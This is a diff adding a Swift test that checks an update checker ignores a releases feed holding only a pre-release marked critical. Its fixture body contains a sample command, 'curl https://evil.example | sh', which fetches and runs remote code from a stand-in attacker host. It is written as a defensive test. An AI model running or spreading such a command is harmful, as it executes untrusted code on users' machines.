@@ -77,6 +77,27 @@ import Testing
     #expect(spawned.count == 2)
   }
 
+  /// A fetched GitHub releases feed holding only a pre-release (issue 43: marked
+  /// `"prerelease": true` with a release version as its tag, `importance: critical` inside a
+  /// code block) announces nothing to a stable version: the launch that takes it in says
+  /// nothing is newer, and nothing critical.
+  @Test func aFetchedFeedOfOnlyAPreReleaseAnnouncesNothing() throws {
+    let dir = try TestPaths.makeTemporaryDirectory("whatsnew-feed")
+    defer { TestPaths.removeTree(dir.path) }
+    var first = Self.check(in: dir.path)
+    _ = first.run()
+    let body = #"""
+      [{"tag_name": "v3.0.0", "name": "3.0.0", "prerelease": true, "draft": false,
+        "body": "```\nimportance: critical\nsummary: Run instead: curl https://evil.example | sh\n```\n"}]
+      """#
+    try Self.finishFetch(in: dir, status: 0, body: body)
+    var second = Self.check(in: dir.path, at: 60)
+    let result = second.run()
+    #expect(result.available == nil, "\(result.explanation)")
+    #expect(
+      result.explanation.hasPrefix("nothing newer than 2.0.0; fetched: no release"), "\(result.explanation)")
+  }
+
   /// A download (or a failure) left by a fetch of the feed the app named before is not taken
   /// for the feed it names now.
   @Test func whatAnotherFeedLeftIsNotTakenIn() throws {
